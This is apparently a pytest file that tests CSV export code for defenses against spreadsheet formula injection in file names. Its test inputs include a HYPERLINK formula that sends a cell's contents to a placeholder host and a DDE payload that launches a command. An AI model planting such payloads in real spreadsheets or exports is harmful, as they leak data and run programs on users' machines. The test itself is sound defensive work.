"""CSV that no spreadsheet calculates."""

from __future__ import annotations

import csv
import io
import re

import pytest

from cli.batch.tables import csv_line, harmless

CALCULATED = re.compile(r"[\s\"]*[=+\-@\uff1d\uff0b\uff0d\uff20]")


@pytest.mark.parametrize(
    "name",
    [
        "=1+1",
        "+1.jpg",
        "-2.jpg",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        '"=1"',
        '=HYPERLINK("http://example.invalid/?"&A1,"look")',
        "\uff1d1+1",
        "a;=cmd|' /C calc'!A0.jpg",
        "a,=1",
        "a\t=1",
        "a\n=1",
        'a";=1',
        'a"\n"=1',
    ],
)
def test_no_part_of_a_name_is_calculated_whatever_separates_the_cells(name: str) -> None:
    line = csv_line([name, 1])
    for separator in ",;\t|":
        for row in csv.reader(io.StringIO(line, newline=""), delimiter=separator):
            assert not [cell for cell in row if CALCULATED.match(cell)]
    for piece in re.split(r"[,;|\t\r\n]", line):
        assert not CALCULATED.match(piece)


@pytest.mark.parametrize("value", ["holiday/-1.jpg", "a=b.jpg", "it's.jpg", "quo'te\"s", "a-b,c;d", "", -1.5, 0, None])
def test_other_values_stay_as_they_are(value: object) -> None:
    assert harmless(value) == value


def test_numbers_stay_numbers() -> None:
    assert csv_line([-1.5, 3]) == "-1.5,3\n"
